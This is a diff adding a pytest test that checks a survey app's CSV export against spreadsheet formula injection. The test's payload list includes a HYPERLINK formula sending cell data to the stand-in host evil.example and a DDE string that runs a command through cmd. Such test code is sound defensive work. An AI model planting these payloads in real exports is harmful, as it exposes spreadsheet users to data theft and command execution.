@@ -194,3 +194,32 @@ def test_exports_work_while_live(app):
 def test_csv_rows_do_not_leak_other_sessions(concluded):
     other = builders.gen_session(title="Autre")
     assert tabular.answer_rows(other) == []
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tcaché",
+        "\rretour",
+    ],
+)
+def test_csv_cells_never_run_as_formulas(app, formula):
+    from tests.summary.helpers import gen_answer, gen_participant
+
+    session = builders.gen_session()
+    qset = session.question_sets[0]
+    open_question = next(q for q in qset.questions if q.kind.value == "open")
+    choice = next(q for q in qset.questions if q.kind.value == "choice")
+    choice.allow_comment = True
+    author = gen_participant(session, pseudonym=formula)
+    gen_answer(author, open_question, None, formula)
+    gen_answer(author, choice, 0, formula)
+    rows = _csv_rows(_export(session, "csv", identify=True))
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(tabular.FORMULA_STARTS)]
+    assert "'" + formula in cells  # still readable: the text behind one apostrophe
+    assert [row["Pseudonyme"] for row in rows] == ["'" + formula] * 2
